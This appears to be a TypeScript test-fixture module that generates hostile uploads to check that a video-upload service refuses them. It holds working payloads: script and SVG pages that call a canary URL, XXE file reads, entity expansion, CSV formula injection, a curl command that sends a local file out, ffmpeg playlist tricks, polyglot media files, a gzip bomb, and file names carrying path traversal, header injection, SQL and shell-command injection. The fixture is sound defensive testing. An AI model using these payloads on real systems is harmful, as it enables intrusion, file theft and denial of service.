import { gzipSync } from 'node:zlib';

/** A file that somebody sends to do harm. */
export interface Attack {
  name: string;
  bytes: Uint8Array;
  /** A player may make something of it; all the others must be refused. */
  mayPlay?: boolean;
}

/** Where attacks try to get: an address that counts who comes, and a file whose words must not turn up anywhere. */
export interface Canary {
  url: string;
  file: string;
}

export const text = (value: string): Buffer => Buffer.from(value, 'latin1');
export const hex = (value: string): Buffer => Buffer.from(value.replaceAll(' ', ''), 'hex');
export const refused = (name: string, bytes: Uint8Array): Attack => ({ name, bytes });
export const harmless = (name: string, bytes: Uint8Array): Attack => ({ name, bytes, mayPlay: true });

/** Programs, pages and lists of addresses, under whatever name. */
export function documents({ url, file }: Canary): Attack[] {
  const hls = (address: string): string => `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${address}\n#EXT-X-ENDLIST\n`;
  const page = `<!doctype html><title>x</title><script>fetch('${url}')</script><img src="${url}">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"`;
  const documents: Record<string, string> = {
    'a page': page,
    'a page behind a mark': `\xef\xbb\xbf${page}`,
    'a page behind spaces': `${' '.repeat(9000)}${page}`,
    'a page behind a comment': `<!-- ${'ftypisom'.repeat(20)} -->${page}`,
    XHTML: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script src="${url}"/></html>`,
    'SVG with a script': `${svg} onload="fetch('${url}')"><script>fetch('${url}')</script></svg>`,
    'SVG with a picture elsewhere': `${svg}><image xlink:href="${url}" width="9" height="9"/></svg>`,
    'SVG with a file': `${svg}><image xlink:href="file://${file}" width="9" height="9"/></svg>`,
    'SVG with a page in it': `${svg}><foreignObject><iframe src="${url}"/></foreignObject></svg>`,
    'XML with an entity from a file': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file://${file}">]><x>&y;</x>`,
    'XML with an entity from elsewhere': `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${url}/x.dtd"><x/>`,
    'XML that grows': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>`,
    MathML: `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline#${url}"/></math>`,
    JavaScript: `fetch('${url}').then((answer) => answer.text())`,
    'a module': `import x from '${url}';\nexport default x;\n`,
    JSON: JSON.stringify({ url, file }),
    CSS: `@import url("${url}"); body { background: url("file://${file}") }`,
    'CSV with a formula': `=WEBSERVICE("${url}"),=cmd|'/c calc'!A1\n`,
    'a shell script': `#!/bin/sh\ncurl ${url} < ${file}\n`,
    PHP: `<?php echo file_get_contents('${file}'); file_get_contents('${url}');`,
    Python: `#!/usr/bin/env python3\nimport urllib.request as r; r.urlopen('${url}')\n`,
    'a template': `{{ ''.constructor.constructor('return process')() }} \${7*7} <%= 7*7 %>`,
    'a mail': `From: a@example.test\nContent-Type: text/html\n\n${page}`,
    'an archive of a page': `MIME-Version: 1.0\nContent-Type: multipart/related\n\n${page}`,
    'a shortcut': `[InternetShortcut]\nURL=${url}\nIconFile=\\\\127.0.0.1\\x\n`,
    'a calendar': `BEGIN:VCALENDAR\nATTACH:${url}\nEND:VCALENDAR\n`,
    'an HLS list of an address': hls(url),
    'an HLS list of a file': hls(`file://${file}`),
    'an HLS list of a path': hls(file),
    'an HLS list of data': hls(`data:text/plain;base64,${Buffer.from('x').toString('base64')}`),
    'an HLS list of joined files': hls(`concat:${file}|${url}`),
    'an HLS list of a pipe': hls('pipe:0'),
    'an HLS list of an encrypted file': hls(url).replace('#EXTINF', `#EXT-X-KEY:METHOD=AES-128,URI="${url}"\n#EXTINF`),
    'an HLS list of a map': hls(url).replace('#EXTINF', `#EXT-X-MAP:URI="file://${file}"\n#EXTINF`),
    'an HLS master': `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}/index.m3u8\n`,
    'a DASH manifest': `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${url}</BaseURL></MPD>`,
    'a Smooth manifest': `<?xml version="1.0"?><SmoothStreamingMedia><StreamIndex Url="${url}"/></SmoothStreamingMedia>`,
    'a list to join, of a file': `ffconcat version 1.0\nfile '${file}'\n`,
    'a list to join, of an address': `ffconcat version 1.0\nfile '${url}'\n`,
    'a list to join, of data': `ffconcat version 1.0\nfile 'data:text/plain,x'\n`,
    'a list to join, without its word': `file '${file}'\nfile '${url}'\n`,
    'captions as ASS': `[Script Info]\n[V4+ Styles]\n[Fonts]\nfontname: ${file}\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,D,,0,0,0,,{\\fn${file}}x\n`,
    'captions as SRT': `1\n00:00:01,000 --> 00:00:02,000\n<img src="${url}">\n`,
    'captions as SAMI': `<SAMI><BODY><SYNC Start=0><P><img src="${url}"></SAMI>`,
    'captions as TTML': `<?xml version="1.0"?><tt xmlns="http://www.w3.org/ns/ttml"><body xml:base="${url}"/></tt>`,
    'captions as MicroDVD': `{0}{25}{c:$0000ff}${url}\n`,
    'captions as MPL2': `[0][25]${url}\n`,
    'a list as PLS': `[playlist]\nFile1=${url}\n`,
    'a list as XSPF': `<?xml version="1.0"?><playlist><trackList><track><location>${url}</location></track></trackList></playlist>`,
    'a list as ASX': `<asx><entry><ref href="${url}"/></entry></asx>`,
    'a list as SMIL': `<smil><body><video src="${url}"/></body></smil>`,
    'a list as CUE': `FILE "${file}" WAVE\nTRACK 01 AUDIO\n`,
    'a stream’s description': `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n`,
    'a filter graph': `movie=${file},drawtext=textfile=${file}`,
    'ffmpeg’s own metadata': `;FFMETADATA1\ntitle=${url}\n[CHAPTER]\nSTART=0\nEND=9\n`,
    'a pattern of names': `${file.replace(/\w$/, '*')}\n%05d.png\n`,
    'a QuickTime link': `<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="${url}"/>`,
    'a RealMedia link': `rtsp://127.0.0.1/x\n${url}\n`,
    'an AviSynth script': `AviSource("${file}")\nImport("${file}")\n`,
    'a VapourSynth script': `import vapoursynth\nopen('${file}').read()\n`,
    'a PostScript picture': `%!PS-Adobe-3.0 EPSF-3.0\n(${file}) (r) file 99 string readline\nshow\n`,
    'an X bitmap': `#define x_width 9\n#define x_height 9\nstatic char x_bits[] = { 0x00 };\n`,
    'a portable picture': `P3\n65500 65500\n255\n0 0 0\n`,
    'a drawing for ImageMagick': `push graphic-context\nviewbox 0 0 9 9\nfill 'url(${url})'\npop graphic-context\n`,
    'nothing but spaces': ' '.repeat(500),
    'one letter': 'x',
  };
  const utf16 = Buffer.concat([hex('fffe'), Buffer.from(page, 'utf16le')]);
  return [
    ...Object.entries(documents).map(([name, body]) => refused(name, text(body))),
    refused('a page in UTF-16', utf16),
    refused('a page that is packed', gzipSync(page)),
    refused('a vector image that is packed', gzipSync(`${svg}></svg>`)),
    refused('a bomb that is packed', gzipSync(Buffer.alloc(20_000_000))),
  ];
}

/** Files of kinds that we do not take, by their first bytes. */
export function strangers(): Attack[] {
  const heads: Record<string, Buffer> = {
    'a PDF': text('%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF'),
    'a ZIP': hex('504b0304 14000000 0800'),
    'an empty ZIP': hex('504b0506 00000000'),
    'an office document': Buffer.concat([hex('504b0304 14000600 0800'), text('[Content_Types].xml')]),
    'an old office document': hex('d0cf11e0a1b11ae1'),
    'a 7z': hex('377abcaf271c0004'),
    'a RAR': hex('526172211a070100'),
    'a bzip2': text('BZh91AY&SY'),
    'an xz': hex('fd377a585a000004'),
    'a zstd': hex('28b52ffd0458'),
    'an lz4': hex('04224d18'),
    'a tar': Buffer.concat([Buffer.alloc(257), text('ustar\x0000'), Buffer.alloc(248)]),
    'a Windows program': Buffer.concat([text('MZ'), hex('90000300'), Buffer.alloc(200)]),
    'a Linux program': hex('7f454c4602010100 0000000000000000 0200 3e00'),
    'a Mac program': hex('cffaedfe07000001'),
    'a Java class': hex('cafebabe00000034'),
    WebAssembly: hex('0061736d01000000'),
    'a database': text('SQLite format 3\0'),
    'a GIF': text('GIF89a\x01\0\x01\0\0\0\0'),
    'a GIF that is JavaScript': text('GIF89a/*\0\0*/=1;alert(1)//'),
    'a BMP': Buffer.concat([text('BM'), hex('3a000000 00000000 36000000 28000000 ffff0000 ffff0000 0100 1800')]),
    'a BMP that is JavaScript': text('BM/*\0\0*/=1;alert(1)//'),
    'a TIFF': hex('49492a00 08000000'),
    'an icon': hex('00000100 0100 1010'),
    'a Photoshop file': text('8BPS\0\x01\0\0\0\0\0\0\0\x03'),
    'a HEIC': text('\0\0\0\x18ftypheic\0\0\0\0mif1heic'),
    'an AVIF': text('\0\0\0\x18ftypavif\0\0\0\0mif1avif'),
    'a JPEG 2000': hex('0000000c6a5020200d0a870a 00000014 66747970 6a703220'),
    'a JPEG XL': hex('ff0a fa7f 0190'),
    'a Flash film': text('FWS\x09\0\0\0\0'),
    'an FLV': text('FLV\x01\x05\0\0\0\x09'),
    'a Windows film': hex('3026b2758e66cf11a6d900aa0062ce6c'),
    'a transport stream': Buffer.concat(
      Array.from({ length: 8 }, () => Buffer.concat([hex('47400010'), Buffer.alloc(184, 255)])),
    ),
    'a DVD film': hex('000001ba 4400 0400 0401 0000 03f8'),
    'an AMR': text('#!AMR\n'),
    'an AIFF': text('FORM\0\0\0\x20AIFFCOMM'),
    'a MIDI': text('MThd\0\0\0\x06\0\x01\0\x01\0\x60'),
    'a Monkey’s Audio': text('MAC \x96\x0f\0\0'),
    'a module of music': text('Extended Module: x'),
    'a RealMedia film': text('.RMF\0\0\0\x12'),
    'a NUT': text('nut/multimedia container\0'),
    'a raw YUV film': text('YUV4MPEG2 W65500 H65500 F25:1\nFRAME\n'),
    'an IVF film': text('DKIF\0\0\x20\0VP80\xff\xff\xff\xff'),
    'a GXF film': hex('0000000001bc00000000'),
    'an MXF film': hex('060e2b34020501010d010201'),
    'a DV tape': hex('1f070 03f'.padEnd(16, '0')),
    'a font': hex('00010000 000c 0080'),
    'a web font': text('wOF2\0\x01\0\0'),
    'a captured network': hex('d4c3b2a1 02000400'),
    'a torrent': text('d8:announce9:udp://x:14:infod'),
    'a certificate': text('-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n'),
    'a Python’s pickle': hex('80049515000000000000008c05'),
    zeros: Buffer.alloc(4096),
    ones: Buffer.alloc(4096, 0xff),
    'one zero': Buffer.alloc(1),
    noise: noise(4096, 1),
  };
  return Object.entries(heads).map(([name, bytes]) => refused(name, bytes));
}

/** The first bytes of what we take, and then something else. */
export function masks({ url, file }: Canary): Attack[] {
  const heads: Record<string, Buffer> = {
    MP4: text('\0\0\0\x18ftypmp42\0\0\0\0mp42isom'),
    'a phone’s MOV': text('\0\0\0\x14ftypqt  \0\0\0\0qt  '),
    'an MP4 with an index': text('\0\0\0\x18ftypmp42\0\0\0\0mp42isom\0\0\0\x08moov'),
    WebM: hex('1a45dfa3 9f 4286810142f7810142f2810442f381084282847765626d42878104428581021853806701ffffffffffffff'),
    AVI: text('RIFF\xff\xff\0\0AVI LIST'),
    WAV: text('RIFF\xff\xff\0\0WAVE'),
    FLAC: text('fLaC\0\0\0\x22'),
    Ogg: text('OggS\0\x02\0\0\0\0\0\0\0\0\x01\0\0\0\0\0\0\0'),
    ID3: text('ID3\x04\0\0\0\0\0\x0a'),
    JPEG: hex('ffd8ffe000104a46494600010100000100010000'),
    PNG: hex('89504e470d0a1a0a0000000d49484452'),
    WebP: text('RIFF\xff\xff\0\0WEBPVP8 '),
  };
  const bodies: Record<string, string> = {
    'a page': `--><!doctype html><script>fetch('${url}')</script>`,
    'an HLS list': `\n#EXTM3U\n#EXTINF:9,\n${url}\nfile://${file}\n`,
    'a list to join': `\nffconcat version 1.0\nfile '${file}'\nfile '${url}'\n`,
    'a vector image': `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${url}')</script></svg>`,
  };
  return Object.entries(heads).flatMap(([head, start]) =>
    Object.entries(bodies).map(([body, rest]) =>
      refused(`${head} that is ${body}`, Buffer.concat([start, text(rest)])),
    ),
  );
}

/** Names that files are sent under. */
export const NAMES = [
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/passwd',
    'C:\\x.mp4',
    'a/../../b.mp4',
    '.',
    '..',
    '...',
  ],
  ...[
    'x.mp4\r\nSet-Cookie: a=b',
    'x\0.html.mp4',
    '\u202e4pm.exe',
    '\u2066x\u2069.mp4',
    '<img src=x onerror=alert(1)>.mp4',
  ],
  ...[
    '%2e%2e%2f%2e%2e%2fx.mp4',
    "'; drop table ivr_content; --.mp4",
    '$(reboot).mp4',
    '-i.mp4',
    'concat:x|y',
    'x'.repeat(5_000),
  ],
  ...['CON.mp4', '\ud800.mp4', '🎬'.repeat(300), '%00.mp4', 'http://127.0.0.1/x.m3u8', 'file:///etc/passwd'],
];

export function generator(seed: number): () => number {
  let state = (seed * 2_654_435_761) >>> 0 || 1;
  return () => {
    // Xorshift32 by Marsaglia.
    state ^= (state << 13) >>> 0;
    state >>>= 0;
    state ^= state >>> 17;
    state ^= (state << 5) >>> 0;
    state >>>= 0;
    return state / 2 ** 32;
  };
}

function noise(length: number, seed: number): Buffer {
  const random = generator(seed);
  return Buffer.from(Array.from({ length }, () => Math.floor(random() * 256)));
}
